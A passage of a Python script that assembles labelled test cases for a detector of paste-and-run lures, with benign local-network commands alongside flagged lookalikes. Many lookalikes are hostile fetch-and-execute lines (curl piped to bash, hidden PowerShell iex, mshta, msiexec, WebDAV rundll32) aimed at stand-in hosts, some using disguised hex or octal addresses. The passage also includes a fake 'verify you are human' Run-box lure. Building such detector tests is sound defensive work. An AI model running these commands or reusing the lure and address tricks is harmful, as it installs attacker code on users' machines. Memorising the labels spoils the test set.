        "On macOS the page copies the following command:\n\n    curl -fsSL {h}/install.sh | bash\n\nThe script asks for the password.",
        UNKNOWN,
    ),
    (
        'The clipboard held "powershell -w h -c iwr {h}/s | iex" when they checked it. They closed the page without running it.',
        OTHER,
    ),
    (
        'Defanged sample (hxxps://cdn-fix[.]invalid/a.ps1):\n\n```\npowershell -w h -c "iex (irm {h}/a.ps1)"\n```\n\nThe second host is the live one.',
        UNKNOWN,
    ),
    (
        "Analysts should look for the rundll32 call:\n\n```\nrundll32.exe \\\\files.umbra-stage.test@SSL\\DavWWWRoot\\invoice.dll,Start\n```\n\nNote the WebDAV share (hxxps://files.umbra-stage[.]test).",
        UNKNOWN,
    ),
    (
        'The loader we observed:\n\n```\npowershell -nop -w hidden -c "iex (iwr hxxps://update-check[.]test/p.ps1)"\n```\n\nIt runs from the Run box.',
        TERMINAL,
    ),
    (
        "Stage one is a one-liner:\n\n    mshta hxxp://198.51.100[.]61/verify.hta\n\nThe HTA then writes a script to %TEMP%.",
        RUN,
    ),
    (
        'Verify you are human:\n\n```\npowershell -w h -c "iex (irm {h}/v.ps1)"\n```\n\nPress Win+R, then Ctrl+V and Enter.',
        UNKNOWN,
    ),
    (
        "Run this to fix the error:\n\n    curl -s {h}/fix.sh | bash\n\nthen restart your browser.",
        OTHER,
    ),
]


def samples(book: Book) -> None:
    for i, text in enumerate(SAMPLES):
        book.add("defanged-sample-block", text, "not_flagged", "any", OTHER, SAMPLE_PAGES[i % 4])
        book.add("defanged-sample-block", text, "not_flagged", "any", OTHER, None)
        book.add(
            "defanged-sample-block", text, "not_flagged", "any", UNKNOWN, SAMPLE_PAGES[(i + 1) % 4]
        )
    for text, target in SAMPLE_LOOKALIKES:
        text = text.replace("{h}", LURE_HOST)
        book.add("defanged-sample-block", text, "flagged", "any", target, SAMPLE_PAGES[0])
        book.add("defanged-sample-block", text, "flagged", "any", target, CHECK_PAGE)


# -- cleared: an API of a device on the user's own network by its private address ----------------

LAN_PAGES = [
    "https://community.home-assistant.io/t/rest-api-examples/123",
    "https://openwrt.org/docs/guide-user/base-system/ubus",
    "https://www.elastic.co/guide/en/elasticsearch/reference/current/cat-indices.html",
    "https://superuser.com/questions/1402211/query-router-status-from-command-line",
    None,
]

LAN_CALLS = [
    ("linux", "curl http://192.168.1.50/relay/0?turn=on"),
    ("linux", "curl -s 'http://10.0.0.15:9200/_cat/indices?v'"),
    ("linux", "curl http://192.168.1.20:11434/api/tags"),
    ("linux", "curl -s http://192.168.1.1/cgi-bin/luci/rpc/sys"),
    ("linux", "wget http://192.168.1.10:8080/backups/latest.tar.gz"),
    (
        "linux",
        'curl -k "https://192.168.1.5:5001/webapi/query.cgi?api=SYNO.API.Info&version=1&method=query"',
    ),
    (
        "linux",
        "kubectl run tmp --rm -it --image=curlimages/curl -- curl http://10.96.0.10:9153/metrics",
    ),
    (
        "linux",
        "curl -X PUT -H 'Content-Type: application/json' -d '{\"on\": true}' http://192.168.0.42/api/newdeveloper/lights/1/state",
    ),
    ("linux", "http GET http://172.16.5.20:8500/v1/catalog/services"),
    ("linux", "curl -u admin:$ROUTER_PASS http://192.168.88.1/rest/interface"),
    ("linux", "wget -qO- http://10.20.30.40:9100/metrics | grep node_load1"),
    ("linux", "curl -sS http://172.17.0.2:8080/actuator/health | jq .status"),
    ("windows", "Invoke-WebRequest -Uri http://192.168.0.1/ -UseBasicParsing"),
    ("windows", "Invoke-RestMethod http://10.10.0.4:5985/wsman"),
    (
        "windows",
        "iwr http://192.168.1.30/status.json -UseBasicParsing | Select-Object -ExpandProperty Content",
    ),
    ("windows", "irm http://172.20.1.8:8080/api/v1/jobs | Format-Table"),
    ("windows", "curl.exe http://192.168.178.1/login_sid.lua"),
    (
        "windows",
        "Invoke-WebRequest -Uri http://10.0.0.12/backup/config.xml -OutFile C:\\Temp\\switch-config.xml",
    ),
]

# a private address written in disguise, a name that starts with such digits or hides one
# before an @, the public and documentation ranges, and what a private address hands a shell
# or the Run box: the clearing takes the address's "stranger" weight only, never what is run
LAN_LOOKALIKES = [
    ("linux", "curl http://198.51.100.50/relay/0?turn=on", TERMINAL, "flagged"),
    ("linux", "curl http://0xC0A80132/relay/0?turn=on", TERMINAL, "flagged"),
    ("linux", "wget http://3232235786:8080/backups/latest.tar.gz", TERMINAL, "flagged"),
    ("windows", "Invoke-WebRequest -Uri http://203.0.113.1/ -UseBasicParsing", TERMINAL, "flagged"),
    ("windows", "irm http://0300.0250.0.1/status.json", TERMINAL, "flagged"),
    ("windows", "mshta http://3232235777/verify.hta", RUN, "malicious"),
    ("linux", "curl -s http://0xC0A80101/s.sh | bash", TERMINAL, "flagged"),
    ("linux", "curl -s http://0300.0250.1.1/s.sh | bash", TERMINAL, "flagged"),
    ("linux", "curl -s http://192.168.1.1.umbra-stage.test/s.sh | bash", TERMINAL, "flagged"),
    ("linux", "curl -s http://192.168.1.1@cdn.umbra-stage.test/s.sh | bash", TERMINAL, "flagged"),
    ("linux", "curl -s http://172.32.0.1/s.sh | bash", TERMINAL, "flagged"),
    ("linux", "curl -s http://198.51.100.23/s.sh | bash", TERMINAL, "flagged"),
    ("windows", "iwr http://203.0.113.9/a.ps1 -UseBasicParsing | iex", TERMINAL, "flagged"),
    ("windows", "mshta http://10.0.0.5/verify.hta", RUN, "malicious"),
    (
        "windows",
        'powershell -w h -c "iex (iwr http://192.168.1.20/p.ps1 -UseBasicParsing)"',
        RUN,
        "malicious",
    ),
    (
        "windows",
        'powershell -w h -c "iex (iwr http://192.168.1.20/p.ps1 -UseBasicParsing)"',
        TERMINAL,
        "flagged",
    ),
    ("linux", "curl -fsSL http://192.168.1.10/bootstrap.sh | sudo bash", TERMINAL, "flagged"),
    ("windows", "msiexec /q /i http://10.1.1.9/agent.msi", RUN, "malicious"),
    (
        "windows",
        "curl.exe -s http://192.168.1.7/k.bat -o %TEMP%\\k.bat && %TEMP%\\k.bat",
        RUN,
        "malicious",
    ),
]

# a team's own package index or registry on the local network (devpi, Verdaccio, a proxy)
LAN_CALLS += [
    ("linux", "pip install --index-url http://192.168.1.15:8080/simple/ --trusted-host 192.168.1.15 internal-tools"),
    ("linux", "pip install --extra-index-url http://10.0.0.8:3141/root/dev/+simple/ harrowfield-sdk"),
    ("linux", "npm install --registry http://10.0.0.8:4873/ @harrowfield/ui"),
    ("linux", "uv pip install --index-url http://172.16.0.20:8081/repository/pypi/simple requests"),
    ("linux", "pip config set global.index-url http://192.168.10.5:3141/root/pypi/+simple/"),
    ("windows", "pip install -i http://10.1.2.3:8080/simple/ harrowfield-cli"),
]  # fmt: skip

LAN_LOOKALIKES += [
    ("linux", "pip install --index-url http://192.168.1.15.umbra-stage.test:8080/simple/ fixer", TERMINAL, "flagged"),
    ("linux", "pip install --extra-index-url http://172.32.0.4/simple/ fixer", TERMINAL, "flagged"),
    ("linux", "pip install -i http://0xC0A8010F:8080/simple/ fixer", TERMINAL, "flagged"),
    ("linux", "pip install --index-url http://198.51.100.4:8080/simple/ fixer", TERMINAL, "flagged"),
    ("linux", "npm install --registry http://203.0.113.8:4873/ @fix/ui", TERMINAL, "flagged"),
    ("linux", "curl -s http://198.51.100.15:8080/setup.sh | bash", TERMINAL, "flagged"),
]  # fmt: skip


def lan_calls(book: Book) -> None:
    for i, (platform, text) in enumerate(LAN_CALLS):
        page = LAN_PAGES[i % len(LAN_PAGES)]
        book.add("private-network-api", text, "not_flagged", platform, TERMINAL, page)
        book.add("private-network-api", text, "not_flagged", platform, UNKNOWN, None)
    for platform, text, target, expect in LAN_LOOKALIKES:
        book.add("private-network-api", text, expect, platform, target, CHECK_PAGE)
        book.add("private-network-api", text, "flagged", platform, target, None)


# -- cleared: a script or program on a share of a local-network server by its plain name ---------

# IT's own chat, mail or wiki telling a colleague to start the team's script from the file
# server: a single-label \\fs01 resolves only on the local network (as the rule's other
# patterns and runbox.py already read it)
LOCAL_SHARE_STARTS = [
    "& \\\\fs01\\it\\scripts\\Reset-Teams.ps1",
    '& "\\\\fs01\\it\\tools\\Collect-Logs.ps1" -Upload',
    "start \\\\deploy01\\apps\\Setup.exe",
    "call \\\\fs01\\netlogon\\map-drives.cmd",
    "start \\\\printsrv\\drivers\\HP-UPD-x64.exe",
    "call \\\\nas\\scripts\\backup.bat",
    "& \\\\sccm01\\Client\\ccmsetup.exe /mp:sccm01",
    "& \\\\fs01\\it\\scripts\\Install-Fonts.ps1 -Scope CurrentUser",
    "start \\\\fs01\\apps\\Notepad++\\npp.8.7.4.Installer.x64.exe /S",
    "call \\\\dc01\\netlogon\\logon.bat",
]
LOCAL_SHARE_SOURCES = [
    "teams",
    "outlook",
    "https://intranet.harrowfield.example/it/kb/teams-reset",
    "slack",
    None,
]

# a dotted name, an address, WebDAV, a port, or the same start from a check page's Run box
LOCAL_SHARE_LOOKALIKES = [
    ("& \\\\files.umbra-stage.test\\s\\Reset-Teams.ps1", TERMINAL, "flagged"),
    ("start \\\\203.0.113.5\\s\\Setup.exe", TERMINAL, "flagged"),
    ("call \\\\umbra-stage.test@SSL\\DavWWWRoot\\fix.cmd", TERMINAL, "flagged"),
    ("start \\\\files.umbra-stage.test@443\\s\\Setup.exe", TERMINAL, "flagged"),
    ("& \\\\198.51.100.7\\share\\update.ps1", TERMINAL, "flagged"),
    ("call \\\\cdn.umbra-stage.test\\netlogon\\verify.bat", TERMINAL, "flagged"),
    ('powershell -w h -c "& \\\\fs01\\s\\verify.ps1"', RUN, "malicious"),
    ("cmd /c start \\\\deploy01\\apps\\Setup.exe", RUN, "malicious"),
]


def local_share_starts(book: Book) -> None:
    for i, text in enumerate(LOCAL_SHARE_STARTS):
        source = LOCAL_SHARE_SOURCES[i % len(LOCAL_SHARE_SOURCES)]
        book.add("local-share-start", text, "not_flagged", "windows", TERMINAL, source)
        book.add("local-share-start", text, "not_flagged", "windows", UNKNOWN, None)
    for text, target, expect in LOCAL_SHARE_LOOKALIKES:
        book.add("local-share-start", text, expect, "windows", target, CHECK_PAGE)
        book.add("local-share-start", text, "flagged", "windows", target, None)


def build() -> list[dict[str, str]]:
    book = Book("fp16")
    quoted_installers(book)
    admin(book)
    console(book)
    writeups(book)
    mails(book)
    oauth(book)
    runbox(book)
    snippets(book)
    second_round(book)
    tables(book)
    samples(book)
    lan_calls(book)
    local_share_starts(book)
    seen = texts_in([EARLIER, *sorted(DEV.glob("*.jsonl"))])
    return [c for c in book.cases if c["id"] not in LEFT and c["text"] not in seen]


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
